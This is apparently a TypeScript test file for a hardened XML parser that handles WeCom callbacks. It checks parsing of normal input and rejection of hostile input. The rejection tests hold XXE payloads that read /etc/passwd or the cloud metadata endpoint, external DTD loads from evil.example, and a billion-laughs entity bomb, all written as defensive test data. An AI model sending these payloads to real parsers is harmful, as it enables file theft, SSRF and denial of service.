import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { child, childrenNamed, childText, isForbiddenXmlChar, parseXml, type TWecomXmlErrorCode, WecomXmlError } from '../xml.ts';

function codeOf(text: string, options?: Parameters<typeof parseXml>[1]): TWecomXmlErrorCode | 'ok' {
  try {
    parseXml(text, options);
    return 'ok';
  } catch (error) {
    if (error instanceof WecomXmlError) return error.code;
    throw error;
  }
}

const nest = (depth: number) => `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;

describe('parseXml reads what WeCom sends', () => {
  const cases: { name: string; xml: string; path: string[]; text: string }[] = [
    { name: 'plain text', xml: '<xml><A>1</A></xml>', path: ['A'], text: '1' },
    { name: 'CDATA', xml: '<xml><A><![CDATA[a<b>&c]]></A></xml>', path: ['A'], text: 'a<b>&c' },
    {
      name: 'CDATA holding "]]>" split over two sections',
      xml: '<xml><A><![CDATA[x]]]]><![CDATA[>y]]></A></xml>',
      path: ['A'],
      text: 'x]]>y',
    },
    { name: 'empty CDATA', xml: '<xml><A><![CDATA[]]></A></xml>', path: ['A'], text: '' },
    { name: 'the five predefined entities', xml: '<xml><A>&lt;&gt;&amp;&quot;&apos;</A></xml>', path: ['A'], text: `<>&"'` },
    {
      name: 'decimal and hex character references',
      xml: '<xml><A>&#20013;&#x6587;&#x1F600;</A></xml>',
      path: ['A'],
      text: '中文😀',
    },
    { name: 'text and CDATA mixed', xml: '<xml><A>a<![CDATA[&]]>&amp;b</A></xml>', path: ['A'], text: 'a&&b' },
    {
      name: 'a leading XML declaration',
      xml: '<?xml version="1.0" encoding="UTF-8"?>\n<xml><A>1</A></xml>',
      path: ['A'],
      text: '1',
    },
    { name: 'a BOM', xml: '\uFEFF<xml><A>1</A></xml>', path: ['A'], text: '1' },
    { name: 'whitespace around the root', xml: '\n  <xml>\n\t<A>1</A>\n</xml>\n', path: ['A'], text: '1' },
    { name: 'nested element', xml: '<xml><Video><Title>t</Title></Video></xml>', path: ['Video', 'Title'], text: 't' },
    { name: 'self-closing element', xml: '<xml><A/><B>2</B></xml>', path: ['A'], text: '' },
    { name: 'attributes are read, entities decoded', xml: '<xml a="1"><A b=\'x&amp;y\'>v</A></xml>', path: ['A'], text: 'v' },
    { name: 'unicode text', xml: '<xml><Name>张三 🐟</Name></xml>', path: ['Name'], text: '张三 🐟' },
    { name: 'depth 8 is allowed', xml: `<xml>${nest(7)}</xml>`, path: ['a', 'a', 'a', 'a', 'a', 'a', 'a'], text: 'x' },
  ];
  it.each(cases)('$name', ({ xml, path, text }) => {
    let element = parseXml(xml);
    expect(element.name).toBe('xml');
    for (const name of path) {
      const next = child(element, name);
      if (!next) throw new Error(`no <${name}>`);
      element = next;
    }
    expect(element.text).toBe(text);
  });

  it('reads repeated children as a list', () => {
    const root = parseXml('<xml><MemChangeList><Item>a</Item><Item><![CDATA[b]]></Item><Item>c</Item></MemChangeList></xml>');
    expect(childrenNamed(child(root, 'MemChangeList'), 'Item').map((e) => e.text)).toEqual(['a', 'b', 'c']);
    expect(childText(root, 'Missing')).toBeUndefined();
  });

  it('keeps attributes', () => {
    expect(parseXml('<xml a="1" b=\'&lt;\'/>').attributes).toEqual({ a: '1', b: '<' });
  });

  it('accepts exactly maxBytes and 5,000 elements', () => {
    const body = '<xml><A>';
    const tail = '</A></xml>';
    const exact = body + 'x'.repeat(64 * 1024 - body.length - tail.length) + tail;
    expect(Buffer.byteLength(exact)).toBe(64 * 1024);
    expect(parseXml(exact).children).toHaveLength(1);
    expect(parseXml(`<xml>${'<I/>'.repeat(4999)}</xml>`).children).toHaveLength(4999);
  });
});

describe('parseXml refuses', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><A>&lol3;</A></xml>`;
  const cases: { name: string; xml: string; code: TWecomXmlErrorCode; options?: Parameters<typeof parseXml>[1] }[] = [
    { name: 'billion laughs', xml: billionLaughs, code: 'FORBIDDEN_DTD' },
    {
      name: 'external entity (file)',
      xml: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><A>&xxe;</A></xml>',
      code: 'FORBIDDEN_DTD',
    },
    {
      name: 'external entity (http)',
      xml: '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><xml><A>&xxe;</A></xml>',
      code: 'FORBIDDEN_DTD',
    },
    {
      name: 'parameter entity',
      xml: '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>',
      code: 'FORBIDDEN_DTD',
    },
    { name: 'external DTD', xml: '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>', code: 'FORBIDDEN_DTD' },
    { name: 'DOCTYPE inside the root', xml: '<xml><!DOCTYPE x></xml>', code: 'FORBIDDEN_DTD' },
    { name: 'ENTITY inside the root', xml: '<xml><!ENTITY x "y"></xml>', code: 'FORBIDDEN_DTD' },
    { name: 'a comment', xml: '<xml><!-- hi --><A>1</A></xml>', code: 'FORBIDDEN_DTD' },
    { name: 'a processing instruction', xml: '<xml><?php echo 1 ?></xml>', code: 'FORBIDDEN_DTD' },
    {
      name: 'a stylesheet instruction before the root',
      xml: '<?xml version="1.0"?><?xml-stylesheet href="http://x/y.xsl"?><xml/>',
      code: 'FORBIDDEN_DTD',
    },
    { name: 'an XML declaration not at the start', xml: ' <?xml version="1.0"?><xml/>', code: 'FORBIDDEN_DTD' },
    { name: 'an undeclared entity', xml: '<xml><A>&xxe;</A></xml>', code: 'BAD_XML' },
    { name: 'a bare ampersand', xml: '<xml><A>a & b</A></xml>', code: 'BAD_XML' },
    { name: 'a reference to NUL', xml: '<xml><A>&#0;</A></xml>', code: 'BAD_XML' },
    { name: 'a reference past U+10FFFF', xml: '<xml><A>&#x110000;</A></xml>', code: 'BAD_XML' },
    { name: 'a raw control character', xml: '<xml><A>\u0001</A></xml>', code: 'BAD_XML' },
    { name: 'mismatched tags', xml: '<xml><A>1</B></xml>', code: 'BAD_XML' },
    { name: 'an unclosed root', xml: '<xml><A>1</A>', code: 'BAD_XML' },
    { name: 'a closing tag without opening', xml: '</xml>', code: 'BAD_XML' },
    { name: 'two roots', xml: '<xml/><xml/>', code: 'BAD_XML' },
    { name: 'junk after the root', xml: '<xml/>junk', code: 'BAD_XML' },
    { name: 'junk before the root', xml: 'junk<xml/>', code: 'BAD_XML' },
    { name: 'no root at all', xml: '   ', code: 'BAD_XML' },
    { name: 'an empty string', xml: '', code: 'BAD_XML' },
    { name: 'JSON', xml: '{"Encrypt":"x"}', code: 'BAD_XML' },
    { name: 'an unterminated CDATA', xml: '<xml><A><![CDATA[x</A></xml>', code: 'BAD_XML' },
    { name: 'an unterminated tag', xml: '<xml><A', code: 'BAD_XML' },
    { name: 'a bad element name', xml: '<xml><1A>x</1A></xml>', code: 'BAD_XML' },
    { name: 'an unquoted attribute', xml: '<xml a=1/>', code: 'BAD_XML' },
    { name: 'a repeated attribute', xml: '<xml a="1" a="2"/>', code: 'BAD_XML' },
    { name: 'depth 9', xml: `<xml>${nest(8)}</xml>`, code: 'TOO_LARGE' },
    {
      name: 'deep nesting (10,000 levels, under the byte limit)',
      xml: nest(10_000),
      code: 'TOO_LARGE',
      options: { maxBytes: 1 << 20 },
    },
    { name: '5,001 elements', xml: `<xml>${'<I/>'.repeat(5000)}</xml>`, code: 'TOO_LARGE' },
    { name: '65 KiB of input', xml: `<xml><A>${'x'.repeat(65 * 1024)}</A></xml>`, code: 'TOO_LARGE' },
    {
      name: 'one byte over the limit (multi-byte characters count as bytes)',
      xml: `<xml><A>${'中'.repeat(30)}</A></xml>`,
      code: 'TOO_LARGE',
      options: { maxBytes: 100 },
    },
  ];
  it.each(cases)('$name → $code', ({ xml, code, options }) => {
    expect(codeOf(xml, options)).toBe(code);
  });

  it('explains the refusal', () => {
    expect(() => parseXml(billionLaughs)).toThrow(/DOCTYPE/);
  });
});

// Property runs are CPU-bound: give them room on a busy machine.
describe('properties', { timeout: 60_000 }, () => {
  it('throws nothing but WecomXmlError on any input', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string({ unit: 'binary' }),
          fc
            .array(
              fc.constantFrom(
                '<',
                '>',
                '/',
                'xml',
                'A',
                '<![CDATA[',
                ']]>',
                '&',
                ';',
                '&amp;',
                '#x41',
                '"',
                '=',
                ' ',
                '<!',
                '<?',
              ),
              {
                maxLength: 60,
              },
            )
            .map((parts) => parts.join('')),
        ),
        (text) => {
          try {
            parseXml(text);
          } catch (error) {
            expect(error).toBeInstanceOf(WecomXmlError);
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  it('round-trips any text through CDATA and through escaping', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const clean = [...text].filter((c) => !isForbiddenXmlChar(c.charCodeAt(0))).join('');
        const cdata = `<![CDATA[${clean.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`;
        const escaped = clean.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
        expect(parseXml(`<xml>${cdata}</xml>`).text).toBe(clean);
        expect(parseXml(`<xml>${escaped}</xml>`).text).toBe(clean);
      }),
      { numRuns: 300 },
    );
  });
});
